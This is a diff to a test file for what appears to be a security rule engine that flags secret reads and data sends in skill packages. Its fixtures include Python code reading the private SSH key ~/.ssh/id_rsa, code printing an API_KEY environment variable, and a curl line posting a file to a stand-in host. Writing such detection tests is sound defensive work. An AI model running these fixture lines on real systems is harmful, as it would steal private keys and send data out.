@@ -99,6 +99,18 @@ describe("conditions", () => {
       0,
     ],
     [
+      "a secret by its name",
+      "any: [{ operation: read-secret, where: { secret: { matches: id_rsa, from: [file] } } }]",
+      { "SKILL.md": "# X\n\nA skill.\n", "x.py": 'import os\nopen(os.path.expanduser("~/.ssh/id_rsa")).read()\n' },
+      1,
+    ],
+    [
+      "and another one",
+      "any: [{ operation: read-secret, where: { secret: $OTHER_KEY } }]",
+      { "SKILL.md": "# X\n\nA skill.\n", "x.py": 'import os\nprint(os.environ["API_KEY"])\n' },
+      0,
+    ],
+    [
       "where data come from",
       "any: [{ operation: send, where: { payload: { from: [file] } } }]",
       sh("curl -d @a https://x.example"),
